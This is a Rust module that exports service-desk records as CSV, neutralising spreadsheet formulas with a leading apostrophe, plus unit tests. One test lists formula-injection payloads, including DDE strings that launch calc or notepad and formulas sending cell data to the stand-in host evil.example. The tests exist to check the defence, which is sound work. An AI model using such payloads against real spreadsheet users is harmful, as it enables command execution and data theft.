//! Records as CSV, for outsiders: columns, times and escapes are promises. Pure.
//!
//! RFC 4180: comma, CRLF, quotes where needed, a header. Times are RFC 3339 in UTC, empty when there
//! is none. A cell that a spreadsheet would run as a formula begins with an apostrophe, unless the
//! command line is asked for the text as it is.

use std::borrow::Cow;
use std::collections::HashMap;

use super::life_cycle::Practices;
use super::list::{ExportLine, ExportRow, Row};
use super::model::{Kind, Record};
use super::view::priority_label;
use crate::platform::db::{Db, Id, Utc};
use crate::platform::kernel::error::{Error, Result};

/// The columns, in order. More may come at the end.
pub const COLUMNS: [&str; 39] = [
    "number",
    "external_id",
    "kind",
    "state",
    "impact",
    "urgency",
    "priority",
    "channel",
    "reported_at",
    "resolved_at",
    "closed_at",
    "reassignments",
    "reopens",
    "requester",
    "assignment_group",
    "assignee",
    "title",
    "service",
    "category",
    "item",
    "location",
    "affected",
    "contacts",
    "chased",
    "former_numbers",
    "owner_team",
    "handoffs",
    "major",
    "impact_began_at",
    "impact_began_source",
    "detected_at",
    "detected_source",
    "acknowledged_at",
    "acknowledged_source",
    "mitigated_at",
    "mitigated_source",
    "parent",
    "due_at",
    "clock",
];

/// The columns of the spine; those behind them are filled by the practices.
const OWN: usize = 28;

/// What practices say of some records: by record and column.
#[derive(Debug, Default)]
pub struct Told(HashMap<(Id<Record>, &'static str), String>);

impl Told {
    /// Asks each practice for its records that have something to tell.
    pub fn read(conn: &mut Db, practices: Practices, lines: &[ExportLine]) -> Result<Self> {
        let mut told = HashMap::new();
        for kind in Kind::ALL {
            let ids: Vec<Id<Record>> = lines
                .iter()
                .map(|line| &line.row)
                .filter(|r| r.row.kind == *kind && r.has_instants)
                .map(|r| r.row.id)
                .collect();
            if ids.is_empty() {
                continue;
            }
            for (id, column, text) in (practices.of(*kind).cells)(conn, &ids)? {
                told.insert((id, column), text);
            }
        }
        Ok(Self(told))
    }
}

/// Whether cells are kept from being formulas.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Cells {
    Neutral,
    Raw,
}

/// The first line.
pub fn header() -> Result<Vec<u8>> {
    lines(std::iter::once(COLUMNS.map(Cow::Borrowed)))
}

/// One line a record.
pub fn rows(records: &[ExportLine], told: &Told, cells: Cells, now: Utc) -> Result<Vec<u8>> {
    lines(records.iter().map(|record| {
        let line = line_of(record, told, now);
        match cells {
            Cells::Raw => line,
            Cells::Neutral => line.map(neutral),
        }
    }))
}

fn lines<'a>(lines: impl Iterator<Item = [Cow<'a, str>; COLUMNS.len()]>) -> Result<Vec<u8>> {
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::new());
    for line in lines {
        writer
            .write_record(line.iter().map(|cell| cell.as_bytes()))
            .map_err(|e| Error::inward(format!("csv: {e}")))?;
    }
    writer
        .into_inner()
        .map_err(|e| Error::inward(format!("csv: {e}")))
}

fn line_of<'a>(line: &'a ExportLine, told: &'a Told, now: Utc) -> [Cow<'a, str>; COLUMNS.len()] {
    let record = &line.row;
    let row = &record.row;
    let former: Vec<String> = line.former.iter().map(ToString::to_string).collect();
    let own: [Cow<'a, str>; OWN] = [
        row.number().to_string().into(),
        text(record.external_id.as_deref()),
        row.kind.word().into(),
        row.state.as_str().into(),
        record.impact.to_string().into(),
        record.urgency.to_string().into(),
        priority_label(row.priority).into(),
        record.channel.word().into(),
        row.reported_at.rfc3339().into(),
        time(record.resolved_at),
        time(record.closed_at),
        record.reassignments.to_string().into(),
        record.reopens.to_string().into(),
        text(row.requester.as_deref()),
        text(row.team.as_deref()),
        text(row.assignee.as_deref()),
        row.title.as_str().into(),
        text(row.service.as_deref()),
        text(record.category.as_deref()),
        text(record.item.as_deref()),
        text(record.location.as_deref()),
        count(row.affected),
        count(record.contacts),
        count(row.chased),
        former.join(" ").into(),
        text(record.owner_team.as_deref()),
        row.handoffs.to_string().into(),
        if row.is_major { "true" } else { "false" }.into(),
    ];
    let mut own = own.into_iter();
    COLUMNS.map(|column| match own.next() {
        Some(cell) => cell,
        None if column == "parent" => parent(record),
        None if column == "due_at" => due(row),
        None if column == "clock" => row.standing().lamp(now).word().into(),
        None => text(told.0.get(&(row.id, column)).map(String::as_str)),
    })
}

fn text(value: Option<&str>) -> Cow<'_, str> {
    value.unwrap_or_default().into()
}

fn parent(record: &ExportRow) -> Cow<'static, str> {
    let number = record.parent.number;
    number.map(|n| n.to_string()).unwrap_or_default().into()
}

/// When the earliest promise is due, if any is.
fn due(row: &Row) -> Cow<'static, str> {
    time(Some(row.next_due_at).filter(|due| *due < Utc::FAR))
}

fn count(n: Option<i32>) -> Cow<'static, str> {
    n.unwrap_or_default().to_string().into()
}

fn time(at: Option<Utc>) -> Cow<'static, str> {
    at.map(Utc::rfc3339).unwrap_or_default().into()
}

/// An apostrophe before what spreadsheets take for the beginning of a formula.
fn neutral(cell: Cow<'_, str>) -> Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{cell}"))
    } else {
        cell
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::platform::db::Id;
    use crate::records::Number;
    use crate::records::list::Parent;
    use crate::records::model::{Channel, Kind};
    use crate::service_levels::ClockState;

    const NOW: Utc = Utc::from_micros(1_700_000_000_000_000);

    fn record(title: &str) -> ExportLine {
        let row = ExportRow {
            row: Row {
                id: Id::nil(),
                kind: Kind::Incident,
                n: 1042,
                title: title.into(),
                priority: 2,
                state: "in_progress".into(),
                reported_at: Utc::from_micros(1_700_000_000_000_000),
                updated_at: Utc::from_micros(0),
                assignee_id: None,
                requester: Some("Ana Ruiz".into()),
                assignee: None,
                service: Some("E-mail".into()),
                affected: Some(12),
                chased: None,
                is_major: true,
                is_flagged: false,
                team: Some("Network".into()),
                handoffs: 2,
                next_due_at: Utc::from_micros(1_700_000_000_000_000),
                next_risk_at: Utc::from_micros(0),
                clock_state: ClockState::Running,
            },
            impact: 1,
            urgency: 2,
            channel: Channel::WalkUp,
            resolved_at: None,
            closed_at: Some(Utc::from_micros(1_700_000_060_000_000)),
            reassignments: 3,
            reopens: 1,
            category: None,
            external_id: Some("INC0000045".into()),
            item: None,
            location: Some("Store 114".into()),
            contacts: Some(14),
            parent: Parent {
                id: Some(Id::nil()),
                number: "INC-7".parse().ok(),
            },
            kind_changes: 2,
            has_instants: true,
            owner_team: Some("Service Desk".into()),
        };
        let former = [(Kind::Incident, 7), (Kind::Request, 8)];
        ExportLine {
            row,
            former: former.map(|(kind, n)| Number { kind, n }).to_vec(),
        }
    }

    fn told() -> Told {
        let cells = [
            ("detected_at", "2023-11-14T22:10:00Z"),
            ("detected_source", "monitoring"),
        ];
        let cells = cells.map(|(column, text)| ((Id::nil(), column), text.to_owned()));
        Told(cells.into())
    }

    fn title_cell(title: &str, cells: Cells) -> String {
        let bytes = rows(&[record(title)], &Told::default(), cells, NOW).unwrap();
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(bytes.as_slice());
        let line = reader.records().next().unwrap().unwrap();
        assert_eq!(line.len(), COLUMNS.len());
        line[16].to_owned()
    }

    #[test]
    fn the_format_is_a_promise() {
        assert_eq!(
            String::from_utf8(header().unwrap()).unwrap(),
            "number,external_id,kind,state,impact,urgency,priority,channel,reported_at,resolved_at,\
             closed_at,reassignments,reopens,requester,assignment_group,assignee,title,service,category,\
             item,location,affected,contacts,chased,former_numbers,owner_team,handoffs,\
             major,impact_began_at,impact_began_source,detected_at,detected_source,acknowledged_at,acknowledged_source,\
             mitigated_at,mitigated_source,parent,due_at,clock\r\n"
        );
        assert_eq!(
            String::from_utf8(
                rows(
                    &[record("No \"sound\", none")],
                    &told(),
                    Cells::Neutral,
                    NOW
                )
                .unwrap()
            )
            .unwrap(),
            "INC-1042,INC0000045,incident,in_progress,1,2,P2,walk_up,2023-11-14T22:13:20Z,,\
             2023-11-14T22:14:20Z,3,1,Ana Ruiz,Network,,\"No \"\"sound\"\", none\",E-mail,,,Store 114,12,14,0,INC-7 REQ-8,Service Desk,2,\
             true,,,2023-11-14T22:10:00Z,monitoring,,,,,INC-7,2023-11-14T22:13:20Z,risk\r\n"
        );
        assert!(
            rows(&[], &Told::default(), Cells::Neutral, NOW)
                .unwrap()
                .is_empty()
        );
    }

    #[test]
    fn no_cell_is_a_formula() {
        for payload in [
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example\",\"click\")",
            "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
            "=WEBSERVICE(\"http://evil.example\")",
            "=\"\"",
            "= 1",
            "==1",
            "+1",
            "+cmd|' /C notepad'!A0",
            "+1,\"x\"",
            "-1",
            "-2+3+cmd|' /C calc'!D2",
            "-",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "@",
            "\t=1+1",
            "\r=1+1",
            "\r\n=1+1",
            "=1\n=2",
        ] {
            assert_eq!(title_cell(payload, Cells::Neutral), format!("'{payload}"));
            assert_eq!(title_cell(payload, Cells::Raw), payload);
        }
    }

    #[test]
    fn every_other_cell_is_as_it_was() {
        for title in [
            "1-1",
            "a=b",
            " =1",
            "'=1",
            "mail@example.org",
            "a,b",
            "\"quoted\"",
            "two\nlines",
            "\u{202e}right to left",
            "😀",
            "",
        ] {
            assert_eq!(title_cell(title, Cells::Neutral), title);
        }
    }
}
